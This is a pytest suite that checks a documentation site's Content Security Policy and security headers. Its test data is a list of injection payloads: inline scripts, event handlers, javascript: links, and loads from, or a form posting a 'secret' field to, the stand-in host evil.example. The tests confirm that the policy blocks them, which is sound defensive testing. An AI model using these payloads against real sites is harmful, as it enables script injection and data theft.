"""The content security policy: in every page, nothing of ours against it, nothing else past it."""

import base64
import re
import shutil
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path

import lxml.html
import pytest
from playwright.sync_api import Browser, BrowserContext

from macros.policy import DIRECTIVES, PROSE, SLOT, enclosed, signed
from tests.finder.finders import Finder
from tests.policy.hosts import add_headers, headers
from tests.projects import Project
from tests.watching import Watched, on_a_stick
from tests.websites import Document, pages, served
from tests.worksheets.sheets import Sheet

HEAD = f'<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{SLOT}">'
HASH = re.compile(r"'sha256-[^']*'")
UNSAFE = re.compile(r"unsafe|\*|https?:|strict-dynamic")


def policy_of(page: Path) -> dict[str, str]:
    """The directives in the head of a page; nothing may stand before them but the encoding."""
    html = page.read_text("utf-8")
    head = [element for element in Document.read(html).elements if element.tag != "html"][:3]
    assert [element.tag for element in head] == ["head", "meta", "meta"], page
    assert head[1].attributes == {"charset": "utf-8"}
    assert head[2].attributes["http-equiv"] == "Content-Security-Policy"
    parts = (part.partition(" ") for part in head[2].attributes["content"].split("; "))
    return {directive: sources for directive, _, sources in parts}


def hash_of(text: str) -> str:
    return f"'sha256-{base64.b64encode(sha256(text.encode()).digest()).decode()}'"


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context()
    context.set_default_timeout(8_000)
    yield context
    context.close()


# --- what it says ---


def test_every_page_starts_with_a_policy_that_allows_nothing_inline_but_by_hash(
    site: Path,
) -> None:
    for page in pages(site):
        policy = policy_of(page)
        assert policy.keys() == DIRECTIVES.keys(), page
        assert not [sources for sources in policy.values() if UNSAFE.search(sources)], page
        for tag in ("script", "style"):
            inline = {
                hash_of(element.text or "")
                for element in lxml.html.parse(page).iter(tag)
                if "src" not in element.attrib
            }
            assert set(policy[f"{tag}-src"].split()) == {"'self'", *inline}, page


def test_hosts_are_told_the_same_and_what_only_a_header_can_say(site: Path) -> None:
    sent = headers(site)
    for directive, sources in policy_of(site / "index.html").items():
        assert f"{directive} {sources}" in sent["content-security-policy"]
    assert "frame-ancestors 'none'" in sent["content-security-policy"]
    assert sent["referrer-policy"] == "no-referrer"
    assert sent["x-content-type-options"] == "nosniff"
    assert sent["x-frame-options"] == "DENY"
    assert "geolocation=()" in sent["permissions-policy"]
    assert sent["cross-origin-opener-policy"] == "same-origin"
    assert max(map(len, (site / "_headers").read_text("utf-8").splitlines())) < 2_000


def test_what_stands_inline_in_a_template_is_allowed_where_it_stands_only() -> None:
    html, allowed = signed(f"{HEAD}<script>a()</script><style>p {{}}</style>")
    assert f"script-src 'self' {hash_of('a()')};" in html
    assert f"style-src 'self' {hash_of('p {}')};" in html
    assert allowed == {("script-src", hash_of("a()")), ("style-src", hash_of("p {}"))}
    assert "sha256" not in signed(f"{HEAD}<script src='a.js'></script>")[0]


def test_while_serving_scripts_run_for_the_sake_of_the_server_and_styles_by_hash() -> None:
    html, _ = signed(f"{HEAD}<script>a()</script><style>p {{}}</style>", serving=True)
    # Beside a hash, browsers take no notice of 'unsafe-inline'.
    assert "script-src 'self' 'unsafe-inline';" in html
    assert f"style-src 'self' {hash_of('p {}')};" in html


SMUGGLED = {
    "script": "<script >evil()</script>",
    "script with a link": "<script>evil('<a href=\"https://a.org\">there</a>')</script>",
    "script that is not closed": "<script>evil()",
    "script closed with an attribute": "<script>evil()</script x>",
    "script with an odd attribute": "<script/x='>'>evil()</script>",
    "comment that is not closed": "<!-- <script>evil()</script>",
    "style": "<STYLE>p {}</STYLE>",
    "style with a link": "<style>p { content: '<a href=\"//a.org\">there</a>' }</style >",
    "label of a heading": "## Evil {: data-toc-label='<script>evil()</script>' }",
    "heading": "## &lt;script&gt;evil()&lt;/script&gt;\n\n## `<style>p {}</style>`\n\n## C",
}
"""Pages that hold nothing inline of ours, and whatever their text brings along."""


@pytest.fixture(scope="module")
def smuggling(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = Project.small(tmp_path_factory.mktemp("smuggling") / "project")
    for name, text in SMUGGLED.items():
        project.write(f"docs/{name.replace(' ', '-')}.md", f"# More\n\n{text}\n")
    # A strict build would refuse what does not work.
    project.run("mkdocs", "build")
    return project.site


@pytest.mark.parametrize("name", SMUGGLED)
def test_what_stands_inline_in_the_text_of_a_page_is_not_allowed(
    name: str, smuggling: Path
) -> None:
    page = smuggling / name.replace(" ", "-") / "index.html"
    usual = policy_of(smuggling / "index.html")
    assert policy_of(page) == usual
    sent = headers(smuggling)["content-security-policy"]
    assert HASH.findall(sent) == HASH.findall(" ".join(usual.values()))


def test_no_page_says_where_its_text_begins(smuggling: Path) -> None:
    assert [page for page in pages(smuggling) if PROSE in page.read_text("utf-8")] == []


def test_only_the_text_of_a_page_is_left_out_of_its_policy() -> None:
    page = f"{HEAD}<script>a()</script>{enclosed('<p>x')}<script>b()</script>"
    html, allowed = signed(page + enclosed("<script>evil()</script>"))
    assert allowed == {("script-src", hash_of("a()")), ("script-src", hash_of("b()"))}
    assert html.endswith("<p>x<script>b()</script><script>evil()</script>")


def test_what_a_template_does_not_print_whole_is_not_allowed() -> None:
    cut = enclosed("<p>Words</p><script>evil()</script>")[:-20]
    assert signed(f"{HEAD}<script>a()</script>{cut}")[1] == {("script-src", hash_of("a()"))}


def test_a_local_template_may_hold_a_script_on_one_page(
    project: Project, context: BrowserContext
) -> None:
    """Its own page allows it, no other one does; the header has to, for all."""
    overrides = project.root / "overrides"
    originals = overrides.resolve()
    overrides.unlink()
    shutil.copytree(originals, overrides)
    project.write(
        "overrides/404.html",
        '{% extends "main.html" %}{% block content %}<h1>Gone</h1>'
        "<script>document.title = 'ran'</script>{% endblock %}",
    )
    site = project.build().site
    script = hash_of("document.title = 'ran'")
    assert script in policy_of(site / "404.html")["script-src"]
    assert script not in policy_of(site / "index.html")["script-src"]
    assert script in headers(site)["content-security-policy"]
    watched = Watched(context.new_page())
    add_headers(context, site)
    with served(site) as address:
        watched.page.goto(f"{address}404.html")
        assert watched.page.title() == "ran"
    assert watched.errors == []


def test_headers_that_a_guide_adds_are_kept(project: Project) -> None:
    project.write("docs/_headers", "/pdf/*\n  X-Robots-Tag: noindex\n")
    written = (project.build().site / "_headers").read_text("utf-8")
    assert written.startswith("/*\n  Content-Security-Policy: ")
    assert written.endswith("\n\n/pdf/*\n  X-Robots-Tag: noindex\n")


# --- what it lets through: all of ours ---


def test_no_page_opened_from_a_disk_goes_against_it(context: BrowserContext, site: Path) -> None:
    watched = Watched(context.new_page())
    for page in pages(on_a_stick(site)):
        watched.page.goto(page.as_uri())
    assert watched.errors == []
    assert watched.elsewhere("file:") == []


def test_the_finder_works_with_all_headers(context: BrowserContext, site: Path) -> None:
    add_headers(context, site)
    watched = Watched(context.new_page())
    page = watched.page
    with served(site) as address:
        page.goto(f"{address}find/")
        finder = Finder(page)
        assert finder.ask("bank on")
        finder.open_filters()
        finder.part("open").first.click()
        page.wait_for_selector("[data-detail] p")
        finder.part("pick").first.check()
        with page.expect_download():
            page.get_by_role("button", name="Save it as a file").click()
        page.goto(address)
        page.locator("[data-find]").click()
        page.get_by_role("dialog").get_by_role("button", name="Close").click()
        assert page.get_by_role("dialog").count() == 0
    assert watched.errors == []


@pytest.mark.parametrize("key", ["worksheets/resource-mapping", "templates/warm-referral"])
def test_forms_work_with_all_headers(context: BrowserContext, site: Path, key: str) -> None:
    add_headers(context, site)
    watched = Watched(context.new_page())
    with served(site) as address:
        watched.page.goto(f"{address}{key}/")
        sheet = Sheet(watched.page, key)
        sheet.fill_all("words")
        content = sheet.save()[1]
        if sheet.part("[data-do=show]").count():
            sheet.show()
        sheet.load(content)
        sheet.agree()
        sheet.hears("The file is loaded.")
    assert watched.errors == []


# --- what it stops: all that is not ours ---

INJECTED = {
    "script": "<script>document.title = 'ran'</script>",
    "handler": "<img src='data:,' onerror=\"document.title = 'ran'\">",
    "style": "<style>h1 { display: none }</style>",
    "style attribute": "<h1 style='display: none'>Gone</h1>",
    "link": "<a id='bad' href=\"javascript:void(document.title = 'ran')\">Press</a>",
    "base": "<base href='https://evil.example/'><img src='../404.html'>",
    "picture": "<img src='https://evil.example/pixel.png'>",
    "frame": "<iframe src='https://evil.example/'></iframe>",
    "frame of text": "<iframe srcdoc=\"<script>top.document.title = 'ran'</script>\"></iframe>",
    "object": "<object data='https://evil.example/'></object>",
    "script of another site": "<script src='https://evil.example/x.js'></script>",
    "script in an address": "<script src=\"data:text/javascript,document.title = 'ran'\"></script>",
    "style sheet": "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "font": "<style>@font-face { font-family: x; src: url(https://evil.example/x) }</style>",
    "picture of a style": "<p style='background: url(https://evil.example/x)'>x</p>",
    "form": "<form id='bad' action='https://evil.example/' ><input name='q' value='secret'></form>",
    "prefetch": "<link rel='prefetch' href='https://evil.example/x'>",
}
ACT = """() => {
    const bad = document.getElementById("bad");
    if (bad) bad.tagName === "FORM" ? bad.submit() : bad.click();
    return getComputedStyle(document.querySelector("h1")).display !== "none";
}"""


@pytest.fixture(scope="module")
def copy(small: Project, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small guide, to smuggle something into."""
    return Path(shutil.copytree(small.site, tmp_path_factory.mktemp("copy") / "site"))


def smuggled(copy: Path, payload: str) -> str:
    """The address, inside the site, of a page that holds `payload`."""
    html = (copy / "sources/index.html").read_text("utf-8")
    held = re.sub(r"(<article[^>]*>)", lambda start: start[1] + payload, html)
    (copy / "sources/smuggled.html").write_text(held, "utf-8")
    return "sources/smuggled.html"


@pytest.mark.parametrize("how", ["http", "file"])
@pytest.mark.parametrize("payload", INJECTED.values(), ids=INJECTED)
def test_what_is_smuggled_into_a_page_neither_runs_nor_loads(
    payload: str, how: str, context: BrowserContext, copy: Path
) -> None:
    path = smuggled(copy, payload)
    watched = Watched(context.new_page())
    watched.page.route("https://**", lambda route: route.fulfill(body="loaded"))
    with served(copy) as address:
        watched.page.goto((copy / path).as_uri() if how == "file" else address + path)
        assert watched.page.evaluate(ACT), "a style was applied"
        watched.page.evaluate("new Promise(done => setTimeout(done, 100))")
    assert "evil.example" not in watched.page.url
    assert watched.page.title() != "ran"
    assert watched.errors
    assert [line for line in watched.errors if "Content Security Policy" not in line] == []


@pytest.mark.parametrize(
    "name", ["script", "handler", "link", "frame of text", "script in an address"]
)
def test_without_the_policy_it_would_run(name: str, context: BrowserContext, copy: Path) -> None:
    """The test above can fail."""
    file = copy / smuggled(copy, INJECTED[name])
    file.write_text(re.sub(r"<meta http-equiv[^>]*>", "", file.read_text("utf-8")), "utf-8")
    page = context.new_page()
    page.goto(file.as_uri())
    page.evaluate(ACT)
    if name != "frame of text":
        page.wait_for_function("document.title === 'ran'")


def test_no_other_site_can_show_the_guide_inside_its_own_page(
    context: BrowserContext, small: Project
) -> None:
    add_headers(context, small.site)
    watched = Watched(context.new_page())
    with served(small.site) as address:
        other = f"<iframe src='{address}'></iframe>"
        watched.page.route("https://**", lambda route: route.fulfill(body=other))
        watched.page.goto("https://other.example/")
        watched.page.wait_for_load_state("networkidle")
        inside = watched.page.frames[1]
        assert "Test Guide" not in inside.content()
